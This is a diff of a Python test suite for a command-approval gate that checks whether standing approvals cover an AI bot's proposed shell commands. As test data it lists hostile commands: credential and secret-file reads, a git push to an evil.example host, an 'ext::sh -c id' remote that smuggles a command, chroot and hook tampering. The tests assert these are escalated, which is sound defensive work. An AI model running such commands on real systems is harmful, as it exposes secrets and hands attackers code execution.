@@ -4,12 +4,16 @@ refused at every surface (admin API, slash command, CLI)."""
 
 from __future__ import annotations
 
+import subprocess
 from datetime import UTC, datetime
 from pathlib import Path
+from typing import Any
 
 import pytest
 
-from bot.risk import classify
+from bot.hooks.gate import grade
+from bot.risk import RiskLevel, classify
+from bot.risk.recipes import ProjectRecipes
 from bot.standing import covers_command, match, suggest_patterns
 from bot.store import StandingApproval
 from tests.harness import ADMIN, OWNER, Harness
@@ -17,6 +21,29 @@ from tests.test_cli import flybot, new_store
 from tests.test_standing import asks, auto
 
 NOW = datetime(2026, 1, 1, tzinfo=UTC)
+
+
+@pytest.fixture(scope="module")
+def ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A plain project: a git repository whose one remote is on GitHub, a package.json without scripts (also in
+    ``sub``), no settings that choose code."""
+    root = tmp_path_factory.mktemp("ws").resolve()
+    subprocess.run(["git", "init", "-q", str(root)], check=True)
+    subprocess.run(["git", "-C", str(root), "remote", "add", "origin", "git@github.com:x/y.git"], check=True)
+    (root / "package.json").write_text('{"name": "x"}')
+    (root / "sub").mkdir()
+    (root / "sub" / "package.json").write_text('{"name": "y"}')
+    return root
+
+
+def sent(command: str, workspace: Path, contained: bool = False) -> dict[str, Any]:
+    """The escalation body fields an adapter in ``workspace`` sends for ``command``: its recipes and the settings
+    it read there (bot/hooks/gate.py ``grade``)."""
+    graded = grade(command, contained=contained, cwd=str(workspace), ceiling=RiskLevel.READ_ONLY)
+    body: dict[str, Any] = {"command": command, "cwd": str(workspace), "contained": contained}
+    if graded.recipes:
+        body["recipes"] = list(graded.recipes)
+    return body
 
 HOSTILE_APT_INSTALLS = [
     "apt-get install -y bash-",
@@ -91,23 +118,23 @@ async def _approve(harness: Harness, **body: object) -> dict[str, object]:
         return data
 
 
-async def test_a_host_apt_get_install_approval_covers_only_plain_installs(harness: Harness) -> None:
+async def test_a_host_apt_get_install_approval_covers_only_plain_installs(harness: Harness, ws: Path) -> None:
     token = await harness.add_bot()
     await _approve(harness, pattern="apt-get install", max_risk="system", host_ok=True)
-    await auto(harness, token, command="apt-get install -y jq", contained=False)
-    await auto(harness, token, command="sudo apt-get install -y jq curl", contained=False)
+    await auto(harness, token, **sent("apt-get install -y jq", ws))
+    await auto(harness, token, **sent("sudo apt-get install -y jq curl", ws))
     for command in HOSTILE_APT_INSTALLS:
-        await asks_then_withdraw(harness, token, command=command, contained=False)
+        await asks_then_withdraw(harness, token, **sent(command, ws))
 
 
-async def test_a_bot_wide_star_up_to_system_on_the_host_does_not_cover_irreversible_changes(harness: Harness) -> None:
+async def test_a_bot_wide_star_up_to_system_on_the_host_does_not_cover_irreversible_changes(harness: Harness, ws: Path) -> None:
     token = await harness.add_bot()
     await _approve(harness, pattern="*", max_risk="system", host_ok=True)
     for command in ("systemctl restart nginx", "chmod +x run.sh", "echo done >> ~/notes.txt", "mkdir -p ~/.cache/x",
                     "apt-get install -y jq", "kill 4242"):
-        await auto(harness, token, command=command, contained=False)
+        await auto(harness, token, **sent(command, ws))
     for command in IRREVERSIBLE_HOST_CHANGES:
-        esc = await asks_then_withdraw(harness, token, command=command, contained=False)
+        esc = await asks_then_withdraw(harness, token, **sent(command, ws))
         assert esc["risk"] == "destructive", esc
 
 
@@ -118,6 +145,22 @@ async def test_secret_reads_are_not_covered_by_an_approval_for_workspace_writes(
     for command in ("cat ~/.ssh/id_rsa", "printenv AWS_SECRET_ACCESS_KEY", "cat /proc/1/environ", "echo $GITHUB_TOKEN", "env"):
         esc = await asks(harness, token, command=command, contained=True)
         assert esc["risk"] == "network", esc
+
+
+SECRET_READS = ["cat ~/.ssh/id_rsa", "printenv AWS_SECRET_ACCESS_KEY", "cat /proc/1/environ", "echo $GITHUB_TOKEN",
+                "env", "git hash-object ~/.ssh/id_rsa", "git hash-object -w /etc/shadow",
+                "git hash-object -w --stdin < ~/.aws/credentials", "git commit -F ~/.ssh/id_ed25519"]
+
+
+async def test_a_bot_wide_star_up_to_system_on_the_host_never_covers_a_secret_read(harness: Harness) -> None:
+    token = await harness.add_bot()
+    await _approve(harness, pattern="*", max_risk="system", host_ok=True)
+    await _approve(harness, pattern="cat", max_risk="system", host_ok=True)
+    for command in ("cat README.md", "git hash-object src/main.py", "git commit -F msg.txt", "printenv PATH"):
+        await auto(harness, token, command=command, contained=False)
+    for command in SECRET_READS:
+        esc = await asks_then_withdraw(harness, token, command=command, contained=False)
+        assert esc["risk"] == "network" and any(r["rule"] == "secret-read" for r in esc["reasons"]), esc
 
 
 async def test_a_pattern_that_names_the_meaning_changing_words_covers_them(harness: Harness) -> None:
@@ -196,12 +239,16 @@ def _approval(pattern: str, max_risk: str = "system") -> StandingApproval:
     ("git push", "git push origin main~5", False),
     ("git push", "git push https://evil.example/x main", False),
     ("git push", "git push origin -- --force", False),
-    ("apt-get install", "apt-get install -yq --no-install-recommends jq g++ python3.11", True),
+    ("apt-get install", "apt-get install -yq --no-install-recommends jq libc6-dev", True),
+    ("apt-get install", "apt-get install -yq --no-install-recommends jq g++ python3.11", False),
     ("apt-get install", "apt-get install -y -f", False),
     ("apt-get install", "apt-get install -y jq:i386", False),
     ("apt-get install", "apt-get install -y bash_", False),
     # apt reads a name with . or + that no package has as an unanchored regular expression
-    ("apt-get install", "apt-get install -y libc++-dev libstdc++6 libgtk2.0-0", True),
+    ("apt-get install", "apt-get install -y libc++-dev libstdc++6 libgtk2.0-0", False),
+    ("apt-get install", "apt-get install -y python3.1", False),
+    ("apt-get install -y python3.11", "apt-get install -y python3.11", True),
+    ("apt-get install -y python3.11", "apt-get install -y python3.1", False),
     ("apt-get install", "apt-get install -y lib.", False),
     ("apt-get install", "apt-get install -y x.+", False),
     ("apt-get install", "apt-get install -y zlib1g.", False),
@@ -232,8 +279,10 @@ def _approval(pattern: str, max_risk: str = "system") -> StandingApproval:
     ("*", "cd /tmp/evil && git push", False),
     ("git push", "LANG=C git push origin main", True),
 ])  # fmt: skip
-def test_a_pattern_covers_the_meaning_changing_words_only_when_it_spells_them_out(pattern: str, command: str, covered: bool) -> None:
-    verdict = classify(command, contained=True, workspace=Path("/work/repo"))
+def test_a_pattern_covers_the_meaning_changing_words_only_when_it_spells_them_out(
+    pattern: str, command: str, covered: bool, ws: Path
+) -> None:
+    verdict = classify(command, contained=True, workspace=ws, recipes=ProjectRecipes(ws))
     parts = list(verdict.commands)
     assert all(covers_command(_approval(pattern), part) for part in parts) is covered
     found = match([_approval(pattern)], risk=verdict.risk, contained=True, commands=parts, now=NOW)
@@ -325,14 +374,14 @@ PLAIN_FORMS = [
 ]
 
 
-async def test_host_approvals_cover_the_plain_forms_and_no_environment_place_or_option_variant(harness: Harness) -> None:
+async def test_host_approvals_cover_the_plain_forms_and_no_environment_place_or_option_variant(harness: Harness, ws: Path) -> None:
     token = await harness.add_bot()
     for pattern in HOST_PATTERNS:
         await _approve(harness, pattern=pattern, max_risk="system", host_ok=True)
     for command in PLAIN_FORMS:
-        await auto(harness, token, command=command, contained=False)
+        await auto(harness, token, **sent(command, ws))
     for command in ENVIRONMENT_AND_PLACE + OPTIONS_AND_OPERANDS:
-        await asks_then_withdraw(harness, token, command=command, contained=False)
+        await asks_then_withdraw(harness, token, **sent(command, ws))
 
 
 #: sudo, env and exec options that change how the command runs (another root, environment, directory, user,
@@ -353,61 +402,66 @@ PLAIN_WRAPPER_OPTIONS = [
 ]
 
 
-async def test_host_approvals_do_not_look_through_wrapper_options_that_change_how_the_command_runs(harness: Harness) -> None:
+async def test_host_approvals_do_not_look_through_wrapper_options_that_change_how_the_command_runs(harness: Harness, ws: Path) -> None:
     token = await harness.add_bot()
     await _approve(harness, pattern="*", max_risk="system", host_ok=True)
     for command in PLAIN_WRAPPER_OPTIONS:
-        await auto(harness, token, command=command, contained=False)
+        await auto(harness, token, **sent(command, ws))
     for command in WRAPPER_OPTIONS:
-        await asks_then_withdraw(harness, token, command=command, contained=False)
+        await asks_then_withdraw(harness, token, **sent(command, ws))
     for command in ("sudo -R /tmp/evil git push origin main", "sudo -R/tmp/evil git push origin main",
                     "sudo --chroot=/tmp/evil git push origin main", "sudo --chr /tmp/evil git push origin main",
                     "sudo -R ./root apt-get install -y jq"):
-        esc = await asks_then_withdraw(harness, token, command=command, contained=False)
+        esc = await asks_then_withdraw(harness, token, **sent(command, ws))
         assert esc["risk"] == "destructive", esc
 
 
 async def test_a_host_apt_get_install_approval_does_not_cover_names_apt_reads_as_regular_expressions(harness: Harness) -> None:
     token = await harness.add_bot()
     await _approve(harness, pattern="apt-get install", max_risk="system", host_ok=True)
-    await auto(harness, token, command="sudo apt-get install -y g++ python3.11 libc++-dev", contained=False)
+    await auto(harness, token, command="sudo apt-get install -y jq libc6-dev", contained=False)
     for command in ("apt-get install -y lib.", "apt-get install -y zlib1g.", "apt-get install -y x.+",
-                    "sudo apt-get install -y libcurl4-gnutls-de.", "apt-get install -y g+"):
+                    "sudo apt-get install -y libcurl4-gnutls-de.", "apt-get install -y g+", "apt-get install -y python3.1",
+                    "apt-get install -y python3.11", "apt-get install -y g++"):
         await asks_then_withdraw(harness, token, command=command, contained=False)
+    # a name with . or + is covered only by a pattern that names it, which covers nothing else
+    await _approve(harness, pattern="apt-get install -y python3.11", max_risk="system", host_ok=True)
+    await auto(harness, token, command="sudo apt-get install -y python3.11", contained=False)
+    await asks_then_withdraw(harness, token, command="apt-get install -y python3.1", contained=False)
 
 
-async def test_git_push_is_not_covered_after_a_cd_nor_after_a_remote_is_pointed_at_a_local_repository(harness: Harness) -> None:
+async def test_git_push_is_not_covered_after_a_cd_nor_after_a_remote_is_pointed_at_a_local_repository(harness: Harness, ws: Path) -> None:
     token = await harness.add_bot()
     await _approve(harness, pattern="git push", max_risk="system", host_ok=True)
     await _approve(harness, pattern="git remote", max_risk="system", host_ok=True)
-    await auto(harness, token, command="git push origin main", contained=False)
-    await auto(harness, token, command="git remote set-url origin git@github.com:x/y.git && git push origin main", contained=False)
+    await auto(harness, token, **sent("git push origin main", ws))
+    await auto(harness, token, **sent("git remote set-url origin git@github.com:x/y.git && git push origin main", ws))
     for command in ("cd b && git push origin main", "cd sub && git push", "pushd b; git push origin main"):
-        await asks_then_withdraw(harness, token, command=command, contained=False)
+        await asks_then_withdraw(harness, token, **sent(command, ws))
     for command in ("git remote set-url --push origin ./b && git push origin main", "git remote add evil ./b; git push evil main",
                     "git remote add evil file:///tmp/b", "git remote set-url origin 'ext::sh -c id'",
                     "git remote add evil /tmp/evil", "cp -r .git/hooks b && echo x > .git/modules/m/hooks/pre-push",
                     "echo '[core]' > .git/config.worktree"):
-        esc = await asks_then_withdraw(harness, token, command=command, contained=False)
+        esc = await asks_then_withdraw(harness, token, **sent(command, ws))
         assert esc["risk"] == "destructive", esc
 
 
-async def test_host_approvals_do_not_cover_a_command_after_a_loop_or_arithmetic_assignment(harness: Harness) -> None:
+async def test_host_approvals_do_not_cover_a_command_after_a_loop_or_arithmetic_assignment(harness: Harness, ws: Path) -> None:
     token = await harness.add_bot()
     for pattern in HOST_PATTERNS:
         await _approve(harness, pattern=pattern, max_risk="system", host_ok=True)
     for command in LOOP_AND_ARITHMETIC_ASSIGNMENTS:
-        await asks_then_withdraw(harness, token, command=command, contained=False)
+        await asks_then_withdraw(harness, token, **sent(command, ws))
 
 
-async def test_a_star_approval_does_not_cover_a_command_given_its_environment_or_run_outside_the_workspace(harness: Harness) -> None:
+async def test_a_star_approval_does_not_cover_a_command_given_its_environment_or_run_outside_the_workspace(harness: Harness, ws: Path) -> None:
     token = await harness.add_bot()
     await _approve(harness, pattern="*", max_risk="system", host_ok=True)
-    await auto(harness, token, command="cargo install ripgrep", contained=False)
-    await auto(harness, token, command="TZ=UTC LC_ALL=C git push origin main", contained=False)
+    await auto(harness, token, **sent("cargo install ripgrep", ws))
+    await auto(harness, token, **sent("TZ=UTC LC_ALL=C git push origin main", ws))
     for command in ("RUSTC_WRAPPER=/tmp/x cargo install ripgrep", "export HOME=/tmp/evil; git push origin main",
                     "cd /tmp/evil && git push -q origin main", "cd \"$D\" && git push"):
-        await asks_then_withdraw(harness, token, command=command, contained=False)
+        await asks_then_withdraw(harness, token, **sent(command, ws))
 
 
 @pytest.mark.parametrize(("pattern", "command", "covered"), [
@@ -420,9 +474,9 @@ async def test_a_star_approval_does_not_cover_a_command_given_its_environment_or
     ("cargo install", "cd / && cargo install ripgrep", False),
 ])  # fmt: skip
 def test_a_command_after_cd_is_covered_only_in_the_workspace_or_by_a_program_that_reads_nothing_there(
-    pattern: str, command: str, covered: bool
+    pattern: str, command: str, covered: bool, ws: Path
 ) -> None:
-    verdict = classify(command, contained=True, workspace=Path("/work/repo"))
+    verdict = classify(command, contained=True, workspace=ws, recipes=ProjectRecipes(ws))
     found = match([_approval(pattern)], risk=verdict.risk, contained=True, commands=verdict.commands, now=NOW)
     assert (found is not None) is covered
 
